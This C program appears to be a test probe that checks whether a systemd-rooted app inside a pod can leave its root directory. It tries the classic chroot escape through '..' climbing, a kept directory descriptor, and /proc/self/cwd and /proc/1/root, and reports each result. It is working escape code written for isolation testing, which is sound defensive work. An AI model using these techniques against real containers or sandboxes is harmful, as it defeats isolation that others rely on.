/* chrootesc: leave the app's root by the classic chroot escape. An app's root is a directory that
 * systemd made "/" (RootDirectory=); with CAP_SYS_CHROOT the app chroots into a subdirectory while
 * its working directory stays at the old "/", then walks ".." up: if its root was made by a move
 * of a mount onto "/" and chroot (not pivot_root), ".." at the mount's root climbs to the pod's
 * own "/" underneath. Also by fchdir to a directory fd kept across the chroot, by /proc/self/cwd
 * and /proc/1/root. The app's image holds /chrootesc-app; the pod's tree has none: a root that
 * lacks it (and has something) is outside. One line a try: TRY RESULT; the entries seen there
 * follow as `seen:NAME`. It runs only inside pods (its image holds /chrootesc-app). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int outside(void) { /* the root is not the app's (its marker is gone) and has entries */
	if (access("/chrootesc-app", F_OK) == 0)
		return 0;
	DIR *d = opendir("/");
	int n = 0;
	for (struct dirent *e; d && (e = readdir(d));)
		if (e->d_name[0] != '.') {
			if (n++ < 40)
				printf("seen:%s\n", e->d_name);
		}
	if (d)
		closedir(d);
	return n > 0;
}

static void report(const char *try, int ok, int e) {
	printf("%s %s\n", try, ok ? "ESCAPED" : (strerrorname_np(e) ?: "EUNKNOWN"));
	fflush(stdout);
}

/* in a child: chroot into a subdirectory, then climb from a working directory left outside it */
static void climb(const char *try, int how) {
	fflush(stdout);
	pid_t pid = fork();
	if (pid != 0) {
		waitpid(pid, NULL, 0);
		return;
	}
	mkdir("/tmp", 01777);
	mkdir("/tmp/chrootesc", 0700);
	int old = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (how == 1 && chdir("/tmp") < 0) { /* the working directory a level below the old root */
		report(try, 0, errno);
		_exit(0);
	}
	if (chroot("/tmp/chrootesc") < 0) {
		report(try, 0, errno);
		_exit(0);
	}
	if (how == 2 && fchdir(old) < 0) { /* a directory fd kept from before */
		report(try, 0, errno);
		_exit(0);
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		report(try, 0, errno);
		_exit(0);
	}
	chdir("/");
	report(try, outside(), ENOENT);
	_exit(0);
}

static void rooted(const char *try, const char *path) {
	fflush(stdout);
	pid_t pid = fork();
	if (pid != 0) {
		waitpid(pid, NULL, 0);
		return;
	}
	if (chroot(path) < 0) {
		report(try, 0, errno);
		_exit(0);
	}
	chdir("/");
	report(try, outside(), ENOENT);
	_exit(0);
}

int main(void) {
	if (access("/chrootesc-app", F_OK) != 0) {
		fprintf(stderr, "chrootesc: not in its attack image, refused\n");
		return 2;
	}
	report("control:marker", 1, 0);
	climb("climb:cwd-at-root", 0);
	climb("climb:cwd-below-root", 1);
	climb("climb:fchdir-old-root", 2);
	rooted("chroot:/proc/self/cwd/..", "/proc/self/cwd/..");
	rooted("chroot:/proc/1/root", "/proc/1/root");
	rooted("chroot:/proc/self/root/..", "/proc/self/root/..");
	printf("done 0\n");
	return 0;
}
